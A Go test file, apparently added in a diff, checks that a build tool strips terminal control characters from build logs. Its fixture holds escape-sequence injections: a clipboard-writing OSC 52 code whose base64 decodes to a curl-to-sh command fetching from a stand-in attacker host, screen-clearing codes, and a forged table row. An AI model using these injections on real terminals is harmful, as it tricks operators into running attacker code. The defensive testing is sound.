@@ -1,0 +1,29 @@
+package runtime
+
+// Attacks on the build log hostlet keeps (issue 15).
+
+import (
+	"strings"
+	"testing"
+	"unicode"
+)
+
+// A build's RUN step prints whatever it likes; the log's last lines go
+// into the BuildFailed message (status, GET /pods/{id}, events, `hostlet
+// status`'s table) with their control characters: an OSC 52 sequence
+// writes the operator's clipboard, others retitle or clear the terminal,
+// and newlines print table rows of pods that do not exist.
+func TestAttackBuildLogKeepsControlCharacters(t *testing.T) {
+	stream := `{"stream":"Step 2/2 : RUN [\"/app\"]\n"}` +
+		`{"stream":"\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcnwgc2g=\u0007\u001b[2J\u001b[1;1H\n"}` +
+		`{"stream":"db   postgres  Running  running  0  abc1234  postgres:16  -\n"}` +
+		`{"error":"The command '/app' returned a non-zero code: 1\u001b[8m hidden"}`
+	lines, err := readBuildStream(strings.NewReader(stream))
+	text := strings.Join(lines, "\n") + "\n" + err.Error()
+	for _, r := range text {
+		if r != '\n' && unicode.IsControl(r) {
+			t.Errorf("the build log kept control character %q in the text shown to operators:\n%q", r, text)
+			break
+		}
+	}
+}
